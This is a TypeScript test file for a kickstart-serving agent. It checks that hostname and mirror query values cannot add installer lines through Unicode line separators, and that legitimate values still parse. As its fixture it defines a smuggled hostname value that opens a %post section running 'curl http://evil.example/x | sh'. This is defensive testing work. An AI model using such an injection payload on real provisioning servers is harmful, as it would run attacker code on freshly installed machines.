/**
 * What an installer makes of a rendered kickstart: the query values of a request must not add
 * kickstart lines. The rendered file is read by Debian's Python with pykickstart's own line
 * splitting and section rules (fixtures/ks_structure.py), so a separator Python breaks lines at
 * (U+2028, U+0085, \v, …) counts as the line break it is for Anaconda.
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import t from 'tap';
import { renderTemplate } from '../../../agent/kickstart/template';
import { byName, get, kickstartApp, listenTcp } from './fixtures/http';
import { makeKsDir } from './fixtures/ks-dir';

/** Debian's interpreter by absolute path: `python3` on PATH may be a pyenv shim. */
const PYTHON = '/usr/bin/python3';
const STRUCTURE = path.join(__dirname, 'fixtures', 'ks_structure.py');

interface KsStructure {
  commands: string[][];
  sections: { header: string[]; body: string[] }[];
}

function structureOf(text: string): KsStructure {
  const r = spawnSync(PYTHON, [STRUCTURE], { input: text, encoding: 'utf8' });
  if (r.error) throw new Error(`${PYTHON} is missing (apt-get install python3, or bash .ci/install-deps): ${r.error.message}`);
  if (r.status !== 0) throw new Error(`the kickstart does not parse: ${r.stderr}`);
  return JSON.parse(r.stdout) as KsStructure;
}

const TEMPLATE = ['url --url={{ mirror }}', 'network --bootproto=dhcp --hostname={{ hostname }}', '%post', 'echo done', '%end', ''].join('\n');
/** A hostname that closes the network line with a comment and opens a %post of its own. */
const INJECTED = 'a #\u2028%post\u2028curl http://evil.example/x | sh\u2028%end';
const EXPECTED_SECTIONS = [{ header: ['%post'], body: ['echo done'] }];

t.test('the separators are real line breaks for the installer (the check below would catch an injection)', async (t) => {
  const s = structureOf(renderTemplate(TEMPLATE, { mirror: 'http://mirror.example/os', hostname: INJECTED }));
  t.same(s.commands[1], ['network', '--bootproto=dhcp', '--hostname=a']);
  t.equal(s.sections.length, 2, 'rendered unchecked, the value adds a %post section');
  t.same(s.sections[0]!.body, ['curl http://evil.example/x | sh']);
});

t.test('served over HTTP: the injection is refused, legitimate values parse as given', async (t) => {
  const k = makeKsDir();
  t.teardown(k.cleanup);
  writeFileSync(path.join(k.dir, 'lab.cfg'), TEMPLATE);
  const server = kickstartApp(k.dir, { queryVars: ['hostname', 'mirror'].map(byName), vars: {} }).server;
  const port = await listenTcp(server);
  t.teardown(() => server.close());

  const attack = await get({ port }, `/ks/lab.cfg?mirror=http://m/os&hostname=${encodeURIComponent(INJECTED)}`);
  t.equal(attack.status, 400, 'the request is refused');
  t.equal(attack.body, 'query parameter hostname contains a line break or control character (U+2028)\n');
  if (attack.status === 200) t.same(structureOf(attack.body).sections, EXPECTED_SECTIONS, 'what the installer would have run');

  for (const [hostname, mirror] of [
    ['sut-7', 'http://mirror.example/fedora/40/Everything/x86_64/os/'],
    ['sut-7.lab.example.org', 'https://user@mirror.example:8443/os'],
    ['fe80--1', 'nfs:server.example:/export/os'],
  ] as const) {
    const r = await get({ port }, `/ks/lab.cfg?hostname=${encodeURIComponent(hostname)}&mirror=${encodeURIComponent(mirror)}`);
    t.equal(r.status, 200, hostname);
    const s = structureOf(r.body);
    t.same(s.commands, [['url', `--url=${mirror}`], ['network', '--bootproto=dhcp', `--hostname=${hostname}`]], `${hostname} ${mirror}`);
    t.same(s.sections, EXPECTED_SECTIONS);
  }
});
